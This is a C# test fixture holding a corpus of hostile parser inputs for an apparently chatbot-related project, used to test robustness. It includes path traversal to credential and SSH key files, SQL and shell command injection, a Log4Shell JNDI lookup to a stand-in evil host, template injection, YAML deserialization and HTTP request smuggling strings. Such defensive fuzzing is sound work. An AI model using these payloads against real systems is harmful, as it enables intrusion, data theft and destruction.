namespace StoryBot.Tests.Hostile.Corpus;

/// <summary>What would be read by somebody's parser: queries, patterns, paths, shells, formats.</summary>
internal static class Syntaxes
{
    public static IReadOnlyList<string> All { get; } =
    [
        "*:*",
        "title:* OR paragraph:[* TO *]",
        "+bridge -mayor !(lamp) \"half a phrase",
        "bridge~10000 mayor^999999999",
        "/(a+)+b/ AND /.*/",
        "{!func}field(x) _query_:\"{!lucene}*:*\"",
        "AND OR NOT",
        "((((((((((((((((((((",
        "?* *? ???? ****",
        "\\\\\\\\ \\\" \\u0000",
        "(a+)+$ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
        "(?<x>(?=(.*)))\\k<x>{2147483647}",
        "../../../../etc/passwd",
        "..\\..\\windows\\system32",
        "/proc/self/environ",
        "file:///data/journal.db",
        "%2e%2e%2f%00",
        "~/.ssh/id_rsa",
        "\\\\evil.test\\share",
        "'; DROP TABLE messages; --",
        "1' OR '1'='1",
        "$(touch /tmp/owned) `id` ; | & && ||",
        "${jndi:ldap://evil.test/a}",
        "{{7*7}} <%= 7*7 %> #{7*7}",
        "{0} {1:D2147483647} {Question} {{",
        "%s%s%s%n %d",
        "\"}],\"ok\":true,\"x\":[{\"",
        "{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":1e999999}}}}}",
        "--- !!python/object:os.system",
        "a: &a [*a, *a]\n---\n",
        "---\ntitle: forged\nurl: https://evil.test\n---",
        "=HYPERLINK(\"https://evil.test\")",
        "-rf --set Knowledge:Folder=/",
        "Content-Length: 0\r\n\r\nGET / HTTP/1.1",
    ];
}
